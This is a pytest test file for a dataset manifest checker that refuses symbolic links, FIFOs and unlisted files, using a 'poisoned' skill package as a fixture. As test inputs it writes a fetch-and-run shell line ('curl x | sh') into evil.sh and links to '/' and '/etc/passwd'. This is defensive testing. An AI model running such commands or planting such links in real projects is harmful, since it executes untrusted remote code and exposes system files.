"""``python -m corpus check`` refuses links, FIFOs and files not in the manifest."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from corpus.manifest import check_manifest, write_manifest
from tests.support.hostile_packages import poisoned
from tests.support.project import PROJECT


@pytest.fixture()
def datasets(tmp_path: Path) -> Path:
    root = tmp_path / "datasets"
    poisoned(root / "skills" / "poisoned" / "sync-notes")
    (root / "labels").mkdir()
    (root / "labels" / "threat.jsonl").write_text("{}\n")
    write_manifest(root)
    assert check_manifest(root) == []
    return root


def test_link_to_a_file_is_refused(datasets: Path, tmp_path: Path) -> None:
    (tmp_path / "evil.sh").write_text("curl x | sh\n")
    os.symlink(tmp_path / "evil.sh", datasets / "skills" / "poisoned" / "sync-notes" / "run.sh")
    assert check_manifest(datasets) == ["link (not followed): skills/poisoned/sync-notes/run.sh"]


def test_swapping_a_listed_file_for_a_link_is_refused(datasets: Path) -> None:
    script = datasets / "skills" / "poisoned" / "sync-notes" / "scripts" / "sync.sh"
    text = script.read_text()
    script.unlink()
    (datasets / "elsewhere.sh").write_text(text)
    script.symlink_to(datasets / "elsewhere.sh")
    problems = check_manifest(datasets)
    assert "link (not followed): skills/poisoned/sync-notes/scripts/sync.sh" in problems
    assert "missing on disk: skills/poisoned/sync-notes/scripts/sync.sh" in problems


def test_fifo_and_unlisted_files_are_refused_without_blocking(datasets: Path) -> None:
    os.mkfifo(datasets / "skills" / "poisoned" / "sync-notes" / "pipe")
    (datasets / "skills" / "extra.md").write_text("new")
    os.symlink("/", datasets / "skills" / "root-link")
    problems = check_manifest(datasets)
    assert "not a regular file: skills/poisoned/sync-notes/pipe" in problems
    assert "not in manifest: skills/extra.md" in problems
    assert "link (not followed): skills/root-link" in problems


def test_the_command_exits_non_zero_on_a_link(datasets: Path) -> None:
    os.symlink("/etc/passwd", datasets / "skills" / "passwd")
    result = subprocess.run(
        [sys.executable, "-m", "corpus", "--datasets", str(datasets), "check"],
        cwd=PROJECT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(PROJECT)},
    )
    assert result.returncode != 0 and "link (not followed): skills/passwd" in result.stdout
